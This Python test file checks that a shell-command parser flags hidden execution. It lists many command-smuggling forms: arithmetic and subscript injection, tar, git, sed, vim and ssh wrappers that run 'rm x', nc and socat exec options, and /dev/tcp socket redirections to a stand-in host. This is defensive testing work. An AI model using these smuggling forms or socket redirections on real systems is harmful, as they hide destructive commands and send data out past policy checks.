"""Attacks on the full parse of shell commands: what runs out of sight is listed, or the tree says it cannot see."""

from __future__ import annotations

import pathlib
import subprocess
import time

import pytest

from signoff.policy.shell.syntax_tree import LONGEST, parse_tree

RM = ("rm", "x")

# Arithmetic, subscripts and names of variables: bash evaluates what a variable holds, and runs substitutions in it.
EVALUATED = [
    ("((x))", "((x))"),
    ("if ((x)); then ls; fi", "((x))"),
    ("echo $((x))", "$((x))"),
    ("echo $(($x))", "$(($x))"),
    ('echo "$((x + 1))"', "$((x + 1))"),
    ("echo $[x]", "$[x]"),
    ("cat <<E\n$((x))\nE\n", "$((x))"),
    ('ls "${y:-$((x))}"', "$((x))"),
    ("let x", "`let`"),
    ("let 'z = x'", "`let`"),
    ("for ((i=x; i<3; i++)); do ls; done", "i=x"),
    ("for ((i=0; x; )) { ls; }", "i=0; x"),
    ("z[x]=1", "z[x]"),
    ("z[$x]=1", "z[$x]"),
    ("z=([x]=1)", "[x]=1"),
    ("echo ${a[x]}", "${a[x]}"),
    ("echo ${#a[x]}", "${#a[x]}"),
    ("echo ${b/${a[x]}/c}", "${a[x]}"),
    ("echo ${b%%$((x))}", "$((x))"),
    ("cat <<E\n${a[x]}\nE\n", "${a[x]}"),
    ("echo ${b:x:2}", "${b:x:2}"),
    ("echo ${@:x}", "${@:x}"),
    ("[[ x -eq 1 ]]", "x -eq 1"),
    ("[[ $x -eq 1 ]]", "$x -eq 1"),
    ("[[ 1 -lt x ]]", "1 -lt x"),
    ("[[ 1 -eq 1 && x -gt 2 ]]", "x -gt 2"),
    ('[[ "$x + 1" -eq 1 ]]', '1" -eq 1'),
    ("[[ -v $x ]]", "-v $x"),
    ("[[ -v a[x] ]]", "-v a[x]"),
    ("[[ b =~ ${a[x]} ]]", "${a[x]}"),
    ("test -v 'a[x]'", "`test`"),
    ('[ -v "$x" ]', "`[`"),
    ("printf -v 'a[x]' y", "`printf`"),
    ('printf -v "$x" y', "name is an expansion"),
    ('printf "$x" y', "`printf`"),
    ("command printf -v 'a[x]' y", "`printf`"),
    ("declare -i y=x", "`declare`"),
    ("builtin declare -i y=x", "`declare`"),
    ("'declare' -i y=x", "`declare`"),
    ("local -i y=x", "`local`"),
    ("readonly 'a[x]=1'", "`readonly`"),
    ("read 'a[x]'", "`read`"),
    ('read "$x"', "name is an expansion"),
    ("unset 'a[x]'", "`unset`"),
    ('unset "$x"', "name is an expansion"),
    ("mapfile -C \"$x\" a", "`mapfile -C`"),
    ('export "$x"', "name is an expansion"),
    ("command export PATH=/x", "sets `PATH`"),
    ("echo ${!x}", "${!x}"),
    ("echo ${x@P}", "@P}"),
    (": ${BASH_ENV:=/x}", "sets `BASH_ENV`"),
    ("PS4='$(rm x)'", "sets `PS4`"),
    ('trap "$x" EXIT', "`trap`"),
    ("trap $x", "`trap`"),
    ("compgen -W '$(rm x)'", "`compgen`"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "piece"), EVALUATED)
def test_what_bash_evaluates_is_opaque_and_the_piece_is_named(text: str, piece: str) -> None:
    assert [reason for reason in parse_tree(text).opaque if piece in reason]


@pytest.mark.parametrize(
    "text",
    [
        "((x))",
        ": $((x))",
        "let x",
        "for ((i=x; i<1; i++)); do :; done",
        "z[x]=1",
        ": ${a[x]}",
        ": ${HOME:x}",
        "[[ x -eq 1 ]]",
        "[[ $x -eq 1 ]]",
        "declare -i y=x",
        "printf -v 'a[x]' y",
        "unset 'a[x]'",
        ': "${x@P}"',
    ],
)
def test_a_real_bash_runs_it_and_the_parse_does_not_miss_it(text: str, tmp_path: pathlib.Path) -> None:
    """The parse sees `text` alone: the variable may come from anywhere."""
    value = "$(touch planted)" if "@P" in text else "a[$(touch planted)]"
    script = f"a=(1); x='{value}'; {text}"
    subprocess.run(["bash", "-c", script], cwd=tmp_path, capture_output=True, timeout=30, check=False)
    assert (tmp_path / "planted").exists(), "this bash no longer evaluates it: the example tests nothing"
    assert parse_tree(text).opaque


@pytest.mark.parametrize(
    "text",
    [
        "echo $((1 + 2 * 0x1f))",
        "((1))",
        "for ((;;)); do ls; done",
        "let 1+2",
        "z[1]=1",
        "z=(a b)",
        "z=([1]=a)",
        'ls ${a[1]} "${a[@]}" ${#a[@]} ${!a[@]} ${#a}',
        "ls ${x:1:2} ${x: -1} ${x:-y} ${@:2}",
        "[[ $# -gt 1 && ${#a} -eq 3 ]]",
        "[[ -v x ]]",
        '[[ $x == y || -n "$x" ]]',
        '[ "$x" = y ]',
        "test -v x",
        "printf '%s' \"$x\"",
        "printf -v x y",
        'read -rp "[y/n] $x" a',
        "export A=$x",
        "unset a",
        "wait $!",
        "trap - EXIT",
    ],
)
def test_what_evaluates_nothing_is_understood(text: str) -> None:
    assert parse_tree(text).opaque == ()


@pytest.mark.parametrize(
    ("text", "writes", "reads"),
    [
        ("cat < /dev/tcp/h/80", (), ("/dev/tcp/h/80",)),
        ("echo a > /dev/udp/h/53", ("/dev/udp/h/53",), ()),
        ("echo a >>/dev/tcp/h/80", ("/dev/tcp/h/80",), ()),
        ("cat a &>/dev/tcp/h/80", ("/dev/tcp/h/80",), ()),
        ("cat a >& '/dev/tcp/h/80'", ("/dev/tcp/h/80",), ()),
        ("exec 3<>/dev/tcp/h/80", ("/dev/tcp/h/80",), ("/dev/tcp/h/80",)),
        ("(exec 3<> /dev/tcp/h/80)", ("/dev/tcp/h/80",), ("/dev/tcp/h/80",)),
        ("while read a; do ls; done < /dev/tcp/h/80", (), ("/dev/tcp/h/80",)),
        ("{ ls; } > /dev/tcp/h/80", ("/dev/tcp/h/80",), ()),
        ("echo $(< /dev/tcp/h/80)", (), ("/dev/tcp/h/80",)),
        ("bash -c 'cat < /dev/tcp/h/80'", (), ("/dev/tcp/h/80",)),
        ("if ls; then ls; fi > /dev/tcp/h/80", ("/dev/tcp/h/80",), ()),
    ],
)
def test_sockets_of_the_shell_are_listed(text: str, writes: tuple[str, ...], reads: tuple[str, ...]) -> None:
    tree = parse_tree(text)
    assert (tree.writes, tree.reads) == (writes, reads)


# Each runs `rm x`; what is listed that way may still be in doubt.
LISTED = [
    "runuser -u a -- rm x", "runuser -u a rm x", "runuser -l a -c 'rm x'", "sudo runuser --user=a -- rm x",
    "capsh -- -c 'rm x'", "capsh --drop=all -- -c 'rm x'", "ssh h 'rm x'", "ssh h rm x", "mosh h -- rm x",
    "sed '1e rm x' a", "sed -n -e p -e '1e rm x' a", "sed --expression='1e rm x' a", "split --filter='rm x'",
    "rsync -e 'rm x' a b", "rsync -aze 'rm x' a b", "rsync --rsh='rm x' a b", "zip -TT 'rm x' a", "zip '-rTTrm x' a",
    "tar --to-command='rm x' -xf a", "tar --checkpoint-action=exec='rm x' -cf a b", "tar --us 'rm x' -xf a",
    "tar --checkpoint-action exec='rm x' -cf a b", "tar -I 'rm x' -xf a", "tar --use-compress-program='rm x' -xf a",
    "tar -F 'rm x' -xf a", "tar cIf 'rm x' a", "tar xfI a 'rm x'", "vim -c '!rm x' a", "vim -c ':!rm x'",
    "vim '+!rm x' a", "sqlite3 db '.shell rm x'", "sqlite3 db '.system rm x'", r"psql -c '\! rm x'",
    r"mysql -e '\! rm x'", "mysql -e 'system rm x'", "tmux new 'rm x'", "tmux new-session -d 'rm x'",
    "tmux -L a new -d -s b rm x", "tmux run-shell 'rm x'", "screen -dm rm x", "screen -dmS a rm x",
    "ip netns exec a rm x", "ip -4 net e a rm x", "ip vrf exec a rm x", "/lib64/ld-linux-x86-64.so.2 rm x",
    "/lib/ld-linux.so.2 --library-path /a rm x", "/lib/ld-musl-x86_64.so.1 rm x", "git clone 'ext::rm x'",
    "git clone -c core.fsmonitor='rm x' u", "git -c core.sshCommand='rm x' fetch", "git -c core.pager='rm x' log",
    "git -c core.fsmonitor='rm x' status", "git -c alias.a='!rm x' a", "git fetch --upload-pack='rm x' o",
    "git push --receive-pack='rm x' o", "git send-email --sendmail-cmd='rm x' p", "git bisect run rm x",
    "git submodule foreach 'rm x'", "git filter-branch --tree-filter 'rm x' HEAD", "git rebase -x 'rm x' a",
    "git rebase --ex 'rm x' a", r"find . -exec rm x \;", r"find . -ok rm x \;", "less '+!rm x' a", "man -P 'rm x' ls",
    "env -S 'rm x'", "nsenter -t 1 -m rm x", "setpriv --reuid=1 rm x", "setpriv --reuid 1 --clear-groups rm x",
    "pkexec rm x", "su a -c 'rm x'", "doas -u a rm x", "chpst -u a rm x", "softlimit -m 1 rm x", "unbuffer rm x",
    "socat TCP:h:1 EXEC:'rm x'", "socat - 'system:rm x,pty'", "nc -c 'rm x' h 1", "ncat --sh-exec 'rm x' h 1",
    "gdb -ex '!rm x'", "gdb -ex 'shell rm x'", "gdb --args rm x", "perf record -e a rm x", "perf trace rm x",
    "valgrind --tool=memcheck rm x", "time -p rm x", "xvfb-run -a rm x", "dbus-run-session -- rm x",
    "dbus-launch rm x", "systemd-nspawn -D /a rm x", "firejail --quiet rm x", "bwrap --ro-bind / / --dev /dev rm x",
    "proot -r / rm x", "fakeroot -- rm x", "faketime '1 day ago' rm x", "entr rm x", "entr -s 'rm x'",
    "watchexec -e py -- rm x", "start-stop-daemon --start --exec rm -- x", "start-stop-daemon -S -x rm -- x",
    "cpulimit -l 1 -- rm x", "taskset -c 0 rm x", "numactl -N 0 rm x", "chrt 1 rm x", "ionice -c3 rm x",
    "stdbuf -oL rm x", "setarch -R rm x", "setarch x86_64 -R rm x", "linux32 rm x", "script -qc 'rm x' a",
    "flock a rm x", "flock a -c 'rm x'", "jobs -x rm x", "ssh-agent rm x", "xterm -e rm x", "eatmydata rm x",
]  # fmt: skip


@pytest.mark.parametrize("text", LISTED)
def test_what_a_program_runs_is_listed(text: str) -> None:
    assert RM in [command.words for command in parse_tree(text).commands if command.via]


@pytest.mark.parametrize(
    ("text", "first"),
    [
        ("scp -S rm a h:b", ("rm",)),
        ("nc -e rm h 1", ("rm",)),
        ("ncat --exec rm h 1", ("rm",)),
        ("rg --pre rm a", ("rm",)),
        ("fd -x rm", ("rm", None)),
        ("fd --exec=rm x", ("rm", "x", None)),
        ("fd -xrm x", ("rm", "x", None)),
    ],
)
def test_a_program_that_is_given_more_words_is_listed(text: str, first: tuple[str | None, ...]) -> None:
    assert first in [command.words for command in parse_tree(text).commands if command.via]


@pytest.mark.parametrize(
    "text",
    [
        "sed 's/a/b/e' f", "sed '/q/e rm x' f", "sed -f script f", 'sed "$x" f', "sed -e 'w out' -e '1e rm x' f",
        "vim a", "vi a", "nvim -es a", "view a", "ed a", "ex a", "nano a", "emacs a", "sqlite3 db", "psql -f a.sql",
        "mysql -e 'source a'", "tmux send-keys -t a rm Enter", "screen -S a -X stuff rm", "zip -rTT 'rm x' a",
        "capsh --shell=/bin/rm -- x", "ip -all netns exec rm x", "git clone --template=a u", "git mergetool",
        "git -c remote.o.url=ext::a fetch o", "git -c submodule.a.update='!rm x' submodule update",
        "git -c protocol.ext.allow=always fetch", "git -c init.templateDir=a init", "git -c core.hooksPath=a commit",
        "less '+v' a", 'less "$x"', "ncat --lua-exec a h 1", "expect -c 'spawn rm x'", "expect a.exp", "gdb a",
        "parallel rm ::: x", "at now", "batch", "crontab a", "run-parts d", "logrotate a", "su -s /bin/rm a -c x",
        "ssh -F a h ls", "chpst -e d ls", "bwrap --args 3 ls", "python3 /dev/fd/3", "python3 <(ls)",
        "bash /dev/fd/3 <<< ls", "python3 -c x", "node -e x", "perl -e x", "ruby -e x", "dc -e '!rm x'",
    ],
)  # fmt: skip
def test_what_cannot_be_seen_through_is_opaque(text: str) -> None:
    assert parse_tree(text).opaque


@pytest.mark.parametrize(
    "text",
    [
        "python3 x.py", "python3 -u x.py -c y", "node app.js", "node --inspect app.js", "perl x.pl", "ruby x.rb",
        "make -f x", "cargo run", "npm run x", "tar xf a", "rsync -a a b", "ip addr", "git status", "git log -S a::b",
        "sed -i 's/a/b/' f", "sed -ne 1p f", "less +/a f", "socat - TCP:h:1", "nc h 1", "zip -r a b", "jobs",
    ],
)  # fmt: skip
def test_programs_of_their_own_run_nothing_else(text: str) -> None:
    tree = parse_tree(text)
    assert tree.opaque == ()
    assert len(tree.commands) == 1


@pytest.mark.parametrize(
    "unit",
    [
        "$((1",
        "[[ x -eq ",
        "${a[",
        "${!a",
        pytest.param("sqlite3 '\n", marks=pytest.mark.nightly),  # by day a script of its own, below
        "sed '",
        "sed ';e",
        pytest.param("less +!", marks=pytest.mark.nightly),  # likewise
        "a[",
        "z=([",
        "$(($((",
        "sed s/",
    ],
)
def test_no_text_makes_the_new_checks_slow(unit: str) -> None:
    text = unit * (LONGEST // len(unit))
    started = time.process_time()
    tree = parse_tree(text)
    assert time.process_time() - started < 8
    assert tree.opaque


def test_no_script_makes_the_new_checks_slow() -> None:
    for script in ("\n" * 40_000, "e" * 40_000, ";" * 40_000, "{" * 40_000, "a[" * 20_000, "\\" * 40_000):
        for program in ("sed", "sqlite3 d", "psql -c", "less", "socat", "let", "[[ -v", "((", "vim"):
            started = time.process_time()
            parse_tree(f"{program} '{script}'")
            assert time.process_time() - started < 8
